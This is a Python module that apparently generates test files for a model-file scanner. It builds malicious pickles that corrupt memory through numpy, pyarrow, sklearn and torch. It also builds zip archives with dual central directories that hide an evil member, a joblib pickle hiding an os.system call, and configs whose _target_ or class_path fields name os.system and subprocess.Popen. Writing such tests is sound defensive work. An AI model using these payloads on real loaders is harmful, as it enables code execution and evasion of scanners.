"""Hostile files for native code that believes what it is given: numpy takes bytes for pointers, Cython takes items of a
tuple without counting, readers of archives choose among two directories; and settings that other loaders act on. They
are read, never opened."""

from __future__ import annotations

import base64
import json
import struct
from typing import Any

from hostile_parts import (
    RUN,
    SYSTEM,
    Maker,
    archive,
    called,
    field,
    js,
    named,
    new,
    npy,
    onnx,
    pickled,
    raw_bytes,
    text,
    torch_zip,
    value,
)

NDARRAY = named("numpy", "ndarray")
EIGHT = raw_bytes(b"A" * 64)  # eight addresses
LIST_OF_ONE = [value(([],))]


# ---- numpy ----


def dtype(code: Any, *state: Any) -> bytes:
    made = called(named("numpy", "dtype"), code, False, True)
    return made + value(state) + b"b" if state else made


def array(kind: bytes, shape: tuple[int, ...], elements: Any) -> bytes:
    return (
        called(named("numpy._core.multiarray", "_reconstruct"), NDARRAY, (0,), raw_bytes(b"b"))
        + value((1, shape, kind, False, elements))
        + b"b"
    )


OBJECT = dtype("O8", 3, "|", None, None, None, -1, -1, 63)
NUMBER = dtype("i8", 3, "<", None, None, None, -1, -1, 0)


def record(fields: dict[str, tuple[bytes, int]], size: int, flags: int, code: Any = None) -> bytes:
    rows = {name: value(field) for name, field in fields.items()}
    return dtype(code or f"V{size}", 3, "|", None, tuple(fields), rows, size, 1, flags)


def changed_later(kind: bytes, state: tuple[Any, ...]) -> bytes:
    """The dtype becomes another one when an array has it already."""
    return value((array(kind + b"\x94", (8,), EIGHT), b"h\x00" + value(state) + b"b"))


def numpy_memory() -> dict[str, bytes]:
    shape, one = (8,), {"a": (OBJECT, 0)}
    both = {"a": (OBJECT, 0), "b": (NUMBER, 0)}
    recarray = named("numpy.rec", "recarray")
    make = named("copyreg", "__newobj__")
    flags = {
        f"flags{f}": array(dtype("O8", 3, "|", None, None, None, -1, -1, f), shape, EIGHT) for f in (1, 5, 9, 33, 61)
    }
    in_record = {f"record_flags{f}": array(record(one, 8, f), shape, EIGHT) for f in (1, 5, 9, 33, 61)}
    return {
        "ndarray": called(NDARRAY, shape, "O", EIGHT),
        "ndarray_new": new(NDARRAY, shape, "O", EIGHT),
        "ndarray_keyword": NDARRAY + value((shape, "O")) + value({"buffer": EIGHT}) + b"\x92",
        "ndarray_newobj": called(make, NDARRAY, shape, "O", EIGHT),
        "ndarray_newobj_ex": called(named("copyreg", "__newobj_ex__"), NDARRAY, (shape, "O", EIGHT), {}),
        "ndarray_obj": b"(" + NDARRAY + value(shape) + text("O") + EIGHT + b"o",
        "recarray": called(recarray, shape, "O", EIGHT),
        "recarray_newobj": called(make, recarray, shape, "O", EIGHT),
        **flags,
        **in_record,
        "sub_flags": array(dtype("V8", 3, "|", value((OBJECT, (1,))), None, None, 8, 1, 1), shape, EIGHT),
        "record_class": array(record(one, 8, 1, named("numpy", "record")), shape, EIGHT),
        "overlap": array(record(both, 8, 63), (1,), [value((value([]), 0x41414141))]),
        "overlap_titles": array(record({"b": (NUMBER, 0), "a": (OBJECT, 0)}, 8, 63), (1,), [value((5, 5))]),
        "size_small": array(
            dtype("V8", 3, "|", None, ("a",), {"a": value((OBJECT, 0))}, 1, 1, 63), (4,), LIST_OF_ONE * 4
        ),
        "size_zero": array(
            dtype("V64", 3, "|", None, ("a", "b"), {"a": value((OBJECT, 0)), "b": value((NUMBER, 56))}, 0, 1, 63),
            (1,),
            [value((value([]), 5))],
        ),
        "grows": changed_later(dtype("V8"), (3, "|", None, None, None, 2**20, 1, 0)),
        "becomes_objects": changed_later(dtype("V8"), (3, "|", None, ("a",), {"a": value((OBJECT, 0))}, 8, 1, 27)),
        "becomes_array": changed_later(dtype("V8"), (3, "|", value((OBJECT, (1,))), None, None, 8, 1, 27)),
        "short_list": array(OBJECT, shape, [1]),
        "list_grows": array(OBJECT, shape, b"](K\x01e\x94") + b"0h\x00(" + b"K\x01" * 7 + b"e",
        "buffer_changes": value(
            (
                called(named("numpy._core.numeric", "_frombuffer"), EIGHT, dtype("V8") + b"\x94", shape, "C"),
                b"h\x00" + value((3, "|", None, ("a",), {"a": value((OBJECT, 0))}, 8, 1, 27)) + b"b",
            )
        ),
        "array_in_use": value(
            (
                array(NUMBER, shape, EIGHT) + b"\x94",
                called(named("numpy._core.numeric", "_frombuffer"), b"h\x00", NUMBER, shape, "C"),
                b"h\x00" + value((1, (1,), NUMBER, False, raw_bytes(b"A" * 8))) + b"b",
            )
        ),
    }


def short_tuples() -> dict[str, bytes]:
    metrics = "sklearn.metrics._dist_metrics"
    return {
        "generator": called(named("torch._C", "Generator")) + value((1,)) + b"b",
        "generator_dict": called(named("torch._C", "Generator")) + value({"a": 1}) + b"b",
        "distance": new(named(metrics, "ChebyshevDistance64")) + value(()) + b"b",
        "distance_number": new(named(metrics, "HammingDistance32")) + value((-1,)) + b"b",
        "tree": new(named("sklearn.neighbors._kd_tree", "KDTree64")) + value(()) + b"b",
        "ball_tree": new(named("sklearn.neighbors._ball_tree", "BallTree64")) + value((None,) * 12) + b"b",
        "value_given": called(named("copyreg", "__newobj__"), named("pandas", "Timestamp"), new(named("evil", "X"))),
    }


def arrow(length: int, ends: list[int], letters: bytes, more: bytes = b"", **other: Any) -> bytes:
    """pandas keeps texts in buffers of pyarrow, which believes all of these numbers."""

    def buffer(content: bytes) -> bytes:
        return called(named("pyarrow.lib", "py_buffer"), raw_bytes(content))

    kind = called(named("pyarrow.lib", "type_for_alias"), other.get("kind", "large_string"))
    nulls = other.get("nulls", b"N")
    buffers = value([nulls, buffer(struct.pack(f"<{len(ends)}q", *ends)), buffer(letters)])
    data = (kind, length, 0, other.get("offset", 0), buffers + more, value([]), b"N")
    return called(named("pyarrow.lib", "_restore_array"), value(data))


def arrows() -> dict[str, bytes]:
    grows = arrow(1, [0, 1], b"a", b"\x94") + b"0h\x00" + text("x") + b"a"
    return {
        "arrow_length": arrow(1000, [0, 1], b"a"),
        "arrow_offset": arrow(1, [0, 1], b"a", offset=2**30),
        "arrow_letters": arrow(1, [0, 2**20], b"a"),
        "arrow_negative": arrow(1, [-8, 1], b"a"),
        "arrow_falls": arrow(2, [0, 1, 0], b"a"),
        "arrow_type": arrow(1, [0, 1], b"a", kind="int64"),
        "arrow_nulls": arrow(1, [0, 1], b"a", nulls=called(named("pyarrow.lib", "py_buffer"), raw_bytes(b""))),
        "arrow_grows": grows,
    }


def joblib_size() -> bytes:
    """The code of the dtype swallows what joblib, which believes its state, takes for opcodes."""
    hidden = b"0" + called(SYSTEM, "id") + b"0N."
    kind = dtype(f"V{5 + len(hidden)}", 3, "|", None, None, None, 5, 1, 0)
    rows = {"subclass": NDARRAY, "shape": (1,), "order": "C", "allow_mmap": False, "dtype": kind}
    wrapper = new(named("joblib.numpy_pickle", "NumpyArrayWrapper")) + value(rows) + b"b"
    return b"\x80\x04" + wrapper + b"B" + struct.pack("<I", len(hidden)) + hidden + b"0N."


# ---- archives with two directories ----

END = struct.Struct("<4sHHHHIIH")


def parts(raw: bytes, moved: int = 0) -> tuple[bytes, bytes, int]:
    """The members, the directory with its members moved, and how many there are."""
    at = raw.rindex(b"PK\5\6")
    _, _, _, _, n, size, offset, _ = END.unpack(raw[at : at + END.size])
    directory, entry = bytearray(raw[offset : offset + size]), 0
    while entry < len(directory):
        struct.pack_into("<I", directory, entry + 42, struct.unpack_from("<I", directory, entry + 42)[0] + moved)
        entry += 46 + sum(struct.unpack_from("<HHH", directory, entry + 28))
    return raw[:offset], bytes(directory), n


def end(n: int, size: int, offset: int) -> bytes:
    return END.pack(b"PK\5\6", 0, 0, n, n, size, offset, 0)


def wide_end(n: int, size: int, offset: int) -> bytes:
    return b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, n, n, size, offset)


def locator(at: int) -> bytes:
    return b"PK\6\7" + struct.pack("<IQI", 0, at, 1)


def two_ends(good: bytes, evil: bytes) -> bytes:
    """The old end record leads to one directory, the one of 64 bits to the other."""
    body, directory, n = parts(good)
    other, evil_directory, evil_n = parts(evil, len(body))
    start = len(body) + len(other)
    wide_at = start + len(directory) + len(evil_directory)
    wide = wide_end(evil_n, len(evil_directory), start + len(directory))
    return body + other + directory + evil_directory + wide + locator(wide_at) + end(n, len(directory), start)


def two_wide_ends(good: bytes, evil: bytes) -> bytes:
    """The locator leads to the first record of 64 bits; Python takes the one right before it."""
    body, directory, n = parts(good)
    other, evil_directory, evil_n = parts(evil, len(body))
    start = len(body) + len(other)
    wide_at = start + len(directory) + len(evil_directory)
    first = wide_end(n, len(directory), start)
    second = wide_end(evil_n, len(evil_directory), start + len(directory))
    last = END.pack(b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return body + other + directory + evil_directory + first + second + locator(wide_at) + last


def before_the_end(good: bytes, evil: bytes) -> bytes:
    """The offset leads to one directory; Python takes the one right before the end record, wherever that is."""
    body, directory, n = parts(good)
    other, evil_directory, _ = parts(evil)
    assert len(directory) == len(evil_directory)
    return body + directory + other + evil_directory + end(n, len(directory), len(body))


def archives() -> dict[str, Maker]:
    good_array, evil_array = archive(("a.npy", npy("'<f4'", bytes(4)))), archive(("a.npy", npy("'|O'", RUN)))
    good, evil = torch_zip(pickled(value({"a": 1}))), torch_zip()
    return {
        "two_ends.pt": lambda: two_ends(good, evil),
        "two_ends_back.pt": lambda: two_ends(evil, good),
        "two_wide_ends.npz": lambda: two_wide_ends(good_array, evil_array),
        "before_the_end.npz": lambda: before_the_end(good_array, evil_array),
        "in_the_comment.npz": lambda: evil_array[:-2] + struct.pack("<H", len(good_array)) + good_array,
    }


# ---- settings that a loader of another kind acts on ----

ENCODED = base64.b64encode(RUN).decode()
TARGETS = {"net": {"_target_": "os.system", "command": "id"}}


def settings() -> dict[str, Maker]:
    policy = json.dumps({"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": ENCODED}})
    component = "components:\n  x:\n    type: evil.module.Thing\n    init_parameters: {}\n"
    address = field(13, field(1, b"location") + field(2, b"*/_ORT_MEM_ADDR_/*")) + field(14, 1)
    return {
        "settings_in_checkpoint.ckpt": lambda: torch_zip(pickled(value({"hyper_parameters": TARGETS}))),
        "settings_by_dict.pkl": lambda: b"(" + text("class_path") + text("subprocess.Popen") + b"d.",
        "settings_maker.ckpt": lambda: torch_zip(
            pickled(value({"hyper_parameters": {"_instantiator": "os.system", "command": "id"}}))
        ),
        "settings_of_arrays.npz": lambda: archive(
            ("a.npy", npy("'<f4'", bytes(4))), ("config.json", json.dumps(TARGETS))
        ),
        "policy.zip": lambda: archive(("data", policy), ("_stable_baselines3_version", "2.3")),
        "policy.json": js({"x": {":serialized:": ENCODED}}),
        "encoded.json": js({"state": ENCODED}),
        "haystack.yaml": lambda: component.encode(),
        "haystack_flow.yaml": lambda: b"x: {'type': evil.module.Thing, init_parameters: {}}\n",
        "haystack.json": js({"components": {"x": {"type": "evil.Thing", "init_parameters": {}}}}),
        "address.onnx": lambda: onnx(field(5, field(1, 4) + field(2, 1) + field(8, b"w") + address)),
    }


NATIVE: dict[str, Maker] = {
    **settings(),
    **{f"memory_{name}.pkl": lambda body=body: pickled(body) for name, body in numpy_memory().items()},
    **{f"counts_{name}.pkl": lambda body=body: pickled(body) for name, body in short_tuples().items()},
    **{f"{name}.pkl": lambda body=body: pickled(body) for name, body in arrows().items()},
    "joblib_size.pkl": joblib_size,
    **archives(),
}
